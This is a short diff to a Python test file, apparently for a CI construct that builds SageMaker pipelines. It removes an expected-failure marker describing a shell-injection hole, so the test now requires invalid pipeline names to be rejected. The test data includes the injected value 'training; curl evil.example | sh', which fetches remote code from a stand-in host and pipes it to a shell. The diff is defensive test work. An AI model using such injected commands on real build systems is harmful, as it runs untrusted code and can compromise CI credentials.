@@ -369,11 +369,6 @@ def test_fails_when_there_are_no_test_commands(bucket_stack: Any) -> None:
         _ci(bucket_stack, test_commands=[])
 
 
-@pytest.mark.xfail(
-    reason="ci.py: sagemaker_pipeline_name is not validated; it is pasted unquoted into the "
-    "RunPipeline shell command (and the IAM ARN), so 'x; curl evil | sh' runs in CodeBuild",
-    strict=True,
-)
 @pytest.mark.parametrize("name", ["training; curl evil.example | sh", "my pipeline", "-x"])
 def test_fails_when_the_pipeline_name_is_not_a_sagemaker_name(bucket_stack: Any, name: str) -> None:
     with pytest.raises(ValueError, match=r"BasicCi: sagemaker_pipeline_name="):
